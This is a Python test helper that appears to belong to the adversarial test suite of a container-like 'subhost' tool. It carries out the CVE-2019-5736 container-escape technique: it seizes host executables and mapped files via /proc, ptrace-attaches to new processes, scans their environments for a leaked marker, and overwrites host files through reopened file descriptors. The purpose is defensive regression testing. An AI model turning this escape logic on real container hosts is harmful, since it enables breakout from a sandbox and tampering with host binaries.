#!/usr/bin/python3
# attack.py - run inside a subhost by 75-adversarial.t, in the background,
# while the host runs `subhost go` again and again: the CVE-2019-5736
# attack on every process that appears.  For each new pid: hold its exe
# (O_PATH) and every file it maps (map_files), read its environment, try
# to ptrace-attach it if it is not yet running its own command.  Files
# that are the host's (on a mount not in our mount table) are recorded;
# the ones listed on the command line ("dev:ino", the test's own copies)
# are reopened for writing, again and again, until that works or we stop.
# One line per event in /tmp/adv-attack.log; "DONE ..." at the end.
import ctypes, os, sys, time

stop, marker = sys.argv[1], sys.argv[2]
targets = {tuple(int(x) for x in a.split(":")) for a in sys.argv[3:]}
libc = ctypes.CDLL(None, use_errno=True)
log = open("/tmp/adv-attack.log", "w", buffering=1)
our_mounts = set()
with open("/proc/self/mountinfo") as f:
    for line in f:
        our_mounts.add(int(line.split()[0]))


def mnt_id(fd):
    with open("/proc/self/fdinfo/%d" % fd) as f:
        for line in f:
            if line.startswith("mnt_id:"):
                return int(line.split()[1])
    return -1


seen, held, wrote = {}, {}, set()      # seen: pid -> the exe we probed
counts = dict(procs=0, memfd=0, host=0, wrote=0, leak=0, attached=0)


def grab(pid, path, what, exe):
    try:
        fd = os.open(path, os.O_PATH)
    except OSError:
        return
    st = os.fstat(fd)
    key = (st.st_dev, st.st_ino)
    # what we hold (the process may have exec'd since we looked at it)
    name = os.readlink("/proc/self/fd/%d" % fd)
    # ours: a file of our own mounts; a memfd (sealed or not) is no host file
    if mnt_id(fd) in our_mounts or name.startswith("/memfd:"):
        os.close(fd)
        return
    counts["host"] += 1
    log.write("HOST pid=%s exe=%s %s=%s dev:ino=%d:%d\n" % (pid, exe, what, name, *key))
    if key in targets and key not in held:
        held[key] = fd
    else:
        os.close(fd)


deadline = time.time() + 120
while not os.path.exists(stop) and time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            exe = os.readlink("/proc/%s/exe" % p)
        except OSError:
            exe = "?"
        # a new process, or one that has exec'd since: probe it (again)
        if seen.get(p) == exe:
            continue
        if p not in seen:
            counts["procs"] += 1
        seen[p] = exe
        if exe.startswith("/memfd:subhost-go"):
            counts["memfd"] += 1
            # a go command before its exec: try to take it over (SEIZE
            # and INTERRUPT: no SIGSTOP left behind after the detach)
            if libc.ptrace(0x4206, int(p), 0, 0) == 0:      # PTRACE_SEIZE
                counts["attached"] += 1
                log.write("ATTACHED pid=%s exe=%s\n" % (p, exe))
                libc.ptrace(0x4207, int(p), 0, 0)           # PTRACE_INTERRUPT
                try:
                    os.waitpid(int(p), 0x40000000)          # __WALL
                except OSError:
                    pass
                libc.ptrace(17, int(p), 0, 0)               # PTRACE_DETACH
        grab(p, "/proc/%s/exe" % p, "exe", exe)
        try:
            for m in os.listdir("/proc/%s/map_files" % p):
                grab(p, "/proc/%s/map_files/%s" % (p, m), "map", exe)
        except OSError:
            pass
        try:
            with open("/proc/%s/environ" % p, "rb") as f:
                if marker.encode() in f.read():
                    counts["leak"] += 1
                    log.write("LEAK pid=%s exe=%s\n" % (p, exe))
        except OSError:
            pass
    for key, fd in list(held.items()):
        if key in wrote:
            continue
        try:
            w = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY | os.O_APPEND)
        except OSError:
            continue                # ETXTBSY while it runs; try again
        os.write(w, b"\n# overwritten from inside a subhost\n")
        os.close(w)
        wrote.add(key)
        counts["wrote"] += 1
        log.write("WROTE dev:ino=%d:%d\n" % key)
    time.sleep(0.001)
log.write("DONE " + " ".join("%s=%d" % kv for kv in counts.items()) + "\n")
